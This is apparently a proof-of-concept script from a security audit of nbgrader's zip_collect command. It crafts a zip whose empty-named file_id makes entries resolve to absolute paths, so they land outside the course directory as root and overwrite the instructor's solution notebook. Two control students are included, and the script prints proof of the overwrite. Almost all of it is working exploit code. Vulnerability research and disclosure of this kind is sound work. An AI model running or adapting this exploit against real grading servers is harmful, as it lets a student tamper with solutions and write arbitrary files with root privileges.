"""a10: zip_collect writing outside the course, as root. With a file_id group that takes the rest of the path
(`(?P<file_id>.+)`, nbgrader's way for files in sub-folders), mallory uploads a zip whose original name is just
'.zip', so its folder in extracted/ ends in '_': the file_id of each entry starts with '/', and
os.path.join(submitted/<student>/<assignment>, '/abs/path.ipynb') is the absolute path. Controls aaron, zoe."""
import os, sys, subprocess, zipfile, shutil
sys.path.insert(0, os.path.dirname(__file__))
from harness import *
regexp = r".*_(?P<student_id>\w+)_attempt_(?P<timestamp>[0-9\-]+)_(?P<file_id>.+)"
out = "/tmp/attack39-root-outside"; shutil.rmtree(out, ignore_errors=True)
d = make_course("zipabs")
arch = f"{d}/downloaded/ps1_memory/archive"; os.makedirs(arch)
good = solution_nb()
for i, s in enumerate(("aaron", "mallory", "zoe")):
    nbformat.write(good, f"{arch}/ps1_memory_{s}_attempt_2024-01-30-15-0{i}-00_ps1_memory.ipynb")
with zipfile.ZipFile(f"{arch}/ps1_memory_mallory_attempt_2024-01-30-15-09-00_.zip", "w") as zf:
    zf.writestr(out.lstrip("/") + "/proof.ipynb", '{"written by": "mallory, as root, outside the course"}')
    zf.writestr(d.lstrip("/") + "/source/ps1_memory/ps1_memory.ipynb", '{"the solutions": "replaced by mallory"}')
r = subprocess.run([f"{CLONE}/.venv/bin/nbgrader", "zip_collect", "ps1_memory", f"--FileNameCollectorPlugin.named_regexp={regexp}"],
                   cwd=d, capture_output=True, text=True)
print("zip_collect rc", r.returncode)
print("\n".join(l for l in (r.stdout + r.stderr).splitlines() if "Copying to" in l or "ERROR" in l or "Error" in l))
for p in (f"{out}/proof.ipynb", f"{d}/source/ps1_memory/ps1_memory.ipynb"):
    if os.path.exists(p):
        st = os.stat(p); print("exists:", p, "owner uid", st.st_uid, open(p).read()[:80].replace("\n", " "))
print("collected:", sorted(os.listdir(f"{d}/submitted")))
